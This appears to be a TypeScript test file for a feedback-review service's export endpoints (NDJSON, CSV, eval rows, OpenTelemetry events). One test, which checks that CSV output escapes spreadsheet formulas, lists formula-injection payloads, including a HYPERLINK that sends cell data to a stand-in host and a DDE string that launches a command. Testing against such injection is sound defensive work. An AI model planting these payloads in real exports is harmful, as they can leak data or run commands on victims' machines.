import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { createReviewIngest } from '../support/review-calls.js';

import type { EvalRow, TurnItem } from '../../src/protocol/review.js';

function linesOf<Line>(text: string): Line[] {
  return text
    .trimEnd()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Line);
}

/** Reads a CSV file as a spreadsheet does: quotes double, line breaks within quotes. */
function readCsv(text: string): Record<string, string>[] {
  const records = text
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .match(/(?:"(?:[^"]|"")*"|[^"\r])*(?:\r\n|$)/g)
    ?.filter(Boolean)
    .map((record) =>
      [...record.replace(/\r\n$/, '').matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(
        ([, cell = '']) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell),
      ),
    );
  const [head = [], ...rows] = records ?? [];
  return rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ''])));
}

describe('an export', () => {
  it('gives all of the filter and nothing else, one item a line', async (t) => {
    const { log, list, fetch } = await createReviewIngest(t);
    for (let index = 0; index < 250; index += 1) {
      await log(`question ${index}`, { signals: { [index % 2 ? 'odd' : 'even']: true } });
    }
    const byName = await fetch('/v1/turns?signal=odd&format=ndjson&limit=7');
    assert.equal(byName.headers.get('content-type'), 'application/x-ndjson');
    assert.match(String(byName.headers.get('content-disposition')), /filename="turns.ndjson"/);
    const turns = linesOf<TurnItem>(await byName.text());
    assert.equal(turns.length, 125);
    assert.deepEqual(turns.slice(0, 100), (await list('signal=odd&limit=100')).items);
    const byAccept = await fetch('/v1/turns?signal=odd', { accept: 'application/x-ndjson' });
    assert.deepEqual(linesOf<TurnItem>(await byAccept.text()), turns);
    assert.equal(await (await fetch('/v1/turns?signal=none&format=ndjson')).text(), '');
  });

  it('as CSV is read by whoever reads CSV', async (t) => {
    const { log, vote, review, fetch } = await createReviewIngest(t);
    const id = await log('He said "one, two"\r\nand three', { signals: { vip: 'gold' } });
    await vote(
      { question: 'He said "one, two"\r\nand three' },
      { rating: 'partial', reasons: ['other'], correction: 'Grüße, 世界' },
    );
    await review(id, {
      verdict: 'annotate',
      revision: 0,
      rating: 'incorrect',
      correction: 'right',
      tags: ['a', 'b'],
    });
    const answer = await fetch('/v1/turns', { accept: 'text/csv' });
    assert.match(String(answer.headers.get('content-type')), /^text\/csv; charset=utf-8/);
    const bytes = new Uint8Array(await answer.arrayBuffer());
    assert.deepEqual(bytes.slice(0, 3), new Uint8Array([0xef, 0xbb, 0xbf]), 'a byte order mark');
    const [row, ...others] = readCsv(new TextDecoder().decode(bytes));
    assert.deepEqual(others, []);
    assert.equal(row?.['turn_id'], id);
    assert.equal(row?.['question'], 'He said "one, two"\r\nand three');
    assert.equal(row?.['signals'], '{"vip":"gold","thumbs_down":true}');
    assert.equal(row?.['rating'], 'partial');
    assert.equal(row?.['reasons'], 'other');
    assert.equal(row?.['correction'], 'Grüße, 世界');
    assert.equal(row?.['reviewed_correction'], 'right');
    assert.equal(row?.['tags'], 'a b');
    const annotations = readCsv(await (await fetch('/v1/annotations?format=csv')).text());
    assert.deepEqual(
      annotations.map(({ source }) => source),
      ['reviewer', 'person'],
    );
  });

  it('as CSV holds nothing that a spreadsheet would run', async (t) => {
    const { log, fetch } = await createReviewIngest(t);
    const attacks = [
      '=HYPERLINK("https://evil.example?"&A1)',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1)',
      '\t=2',
      '\r=3',
      '  =4',
      '＝5',
    ];
    for (const attack of attacks) await log(attack, { user_id: attack });
    const rows = readCsv(await (await fetch('/v1/turns?format=csv')).text());
    assert.equal(rows.length, attacks.length);
    for (const { question = '', user_id = '', agent_response = '' } of rows) {
      assert.match(question, /^'/);
      assert.match(user_id, /^'/);
      assert.match(agent_response, /^About/, 'what is harmless stays as it is');
    }
  });

  it('as an eval set has what was asked, answered and expected', async (t) => {
    const { log, vote, review, fetch } = await createReviewIngest(t);
    const id = await log('reviewed');
    await vote({ question: 'reviewed' }, { rating: 'incorrect', correction: 'a person’s' });
    await review(id, {
      verdict: 'annotate',
      revision: 0,
      rating: 'partial',
      root_cause: 'tool',
      correction: 'a reviewer’s',
      tags: ['t'],
      reviewer: 'Ana',
    });
    await vote({ question: 'corrected' }, { rating: 'incorrect', correction: 'so' });
    await vote({ question: 'liked', agentResponse: 'well' }, { rating: 'correct' });
    await vote({ question: 'only disliked' }, { rating: 'incorrect' });
    const dismissed = await log('dismissed');
    await review(dismissed, { verdict: 'dismiss', revision: 0 });

    const rows = linesOf<EvalRow>(await (await fetch('/v1/turns?format=eval')).text());
    assert.deepEqual(
      rows.map(({ input, expected }) => [input, expected]),
      [
        ['liked', 'well'],
        ['corrected', 'so'],
        ['reviewed', 'a reviewer’s'],
      ],
    );
    assert.deepEqual(rows[2], {
      input: 'reviewed',
      output: 'About reviewed',
      expected: 'a reviewer’s',
      metadata: {
        turn_id: id,
        annotation_id: rows[2]?.metadata.annotation_id,
        source: 'reviewer',
        rating: 'partial',
        root_cause: 'tool',
        tags: ['t'],
        reviewer: 'Ana',
        created_at: rows[2]?.metadata.created_at,
      },
    });
    const all = linesOf<EvalRow>(await (await fetch('/v1/annotations?format=eval')).text());
    assert.equal(all.length, 4, 'of annotations each has a row that says what was expected');
    assert.ok(
      all.some(({ metadata }) => metadata.annotation_id === rows[2]?.metadata.annotation_id),
    );
  });

  it('as OpenTelemetry events tells what each annotation says', async (t) => {
    const { log, vote, fetch, annotations } = await createReviewIngest(t);
    const trace_id = '4bf92f3577b34da6a3ce929d0e0e4736';
    const metadata = { response_id: 'resp_1', trace_id, span_id: '00f067aa0ba902b7' };
    await log('one', { metadata });
    await vote(
      { question: 'one', sessionId: 's_1' },
      { rating: 'partial', reasons: ['other'], correction: 'so', comment: 'why' },
    );
    const [line] = linesOf<{
      resourceLogs: { scopeLogs: { logRecords: Record<string, unknown>[] }[] }[];
    }>(await (await fetch('/v1/turns?format=otel')).text());
    const record = line?.resourceLogs[0]?.scopeLogs[0]?.logRecords[0];
    assert.equal(record?.['eventName'], 'gen_ai.evaluation.result');
    assert.equal(record?.['traceId'], trace_id);
    assert.equal(record?.['spanId'], '00f067aa0ba902b7');
    assert.equal(record?.['timeUnixNano'], `${Date.parse('2026-11-25T12:02:00Z')}000000`);
    const [said] = await annotations();
    const { attributes } = record as { attributes: { key: string; value: object }[] };
    assert.deepEqual(
      Object.fromEntries(attributes.map(({ key, value }) => [key, Object.values(value)[0]])),
      {
        'gen_ai.evaluation.name': 'user_feedback',
        'gen_ai.evaluation.score.value': 0.5,
        'gen_ai.evaluation.score.label': 'partial',
        'gen_ai.evaluation.explanation': 'why',
        'gen_ai.response.id': 'resp_1',
        'gen_ai.conversation.id': 's_1',
        'agentloop.annotation.id': said?.annotation_id,
        'agentloop.turn.id': said?.turn_id,
        'agentloop.correction': 'so',
        'agentloop.tags': { values: [{ stringValue: 'other' }] },
      },
    );
  });

  it('reads no further than its reader, and stops when the reader goes away', async (t) => {
    const { log, store, fetch } = await createReviewIngest(t);
    for (let index = 0; index < 350; index += 1) await log(`question ${index}`);
    let pages = 0;
    const real = { ...store };
    store.listTurns = (query) => {
      pages += 1;
      return real.listTurns(query);
    };
    const reader = (await fetch('/v1/turns?format=ndjson')).body?.getReader();
    assert.ok(reader);
    await reader.read();
    assert.equal(pages, 1);
    await reader.read();
    assert.equal(pages, 2);
    await reader.cancel();
    assert.equal((await reader.read()).done, true);
    assert.equal(pages, 2);
  });

  it('that fails in the middle does not look like one that has ended', async (t) => {
    const { log, store, fetch, errors } = await createReviewIngest(t);
    for (let index = 0; index < 150; index += 1) await log(`question ${index}`);
    const real = { ...store };
    store.listTurns = (query) =>
      query.cursor ? Promise.reject(new Error('the disk is gone')) : real.listTurns(query);
    await assert.rejects((await fetch('/v1/turns?format=csv')).text(), /the disk is gone/);
    assert.equal(errors.length, 1);
  });
});
